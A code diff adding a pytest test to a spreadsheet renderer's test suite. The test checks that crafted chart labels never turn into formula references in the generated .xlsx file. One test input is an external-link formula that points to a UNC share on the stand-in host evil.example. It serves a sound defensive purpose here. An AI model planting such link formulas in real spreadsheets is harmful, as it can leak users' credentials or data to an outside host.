@@ -2,9 +2,11 @@
 
 import dataclasses
 import io
+import re
 import zipfile
 from datetime import datetime
 from pathlib import Path
+from typing import Any
 
 import openpyxl
 import pytest
@@ -67,6 +69,25 @@ def test_no_cell_anywhere_is_a_formula(made: Path) -> None:
         sheets = [archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/sheet")]
     assert len(sheets) == 10
     assert not any(b"<f>" in sheet for sheet in sheets)
+
+
+@pytest.mark.parametrize(
+    "text", ["='\\\\evil.example\\share\\[x.xlsx]S'!$A$1", "WAN!A1", "=WAN!$B2", "a\nb!AB12 and more"]
+)
+def test_no_name_in_a_chart_is_a_formula(text: str, tmp_path: Path) -> None:
+    def renamed(value: Any) -> Any:
+        if isinstance(value, dict):
+            return {key: text if key == "label" else renamed(part) for key, part in value.items()}
+        return [renamed(part) for part in value] if isinstance(value, list | tuple) else value
+
+    blocks = tuple(Figure(name, text, renamed(chart)) for name, chart in charts.ALL.items())
+    document = dataclasses.replace(documents.document(), sections=(Section("s", "S", blocks=blocks),))
+    spreadsheet.render(document, IMPRINT, tmp_path / "a.xlsx", lambda _share: None)
+    with zipfile.ZipFile(tmp_path / "a.xlsx") as archive:
+        drawn = [archive.read(name).decode() for name in archive.namelist() if "/charts/chart" in name]
+    places = [place for chart in drawn for place in re.findall(r"<c:f>([^<]*)</c:f>", chart)]
+    assert places
+    assert [place for place in places if not re.fullmatch(r"'Figure \d+'![$A-Z\d:]+", place)] == []
 
 
 def test_series_and_their_intervals_are_native_charts(made: Path) -> None:
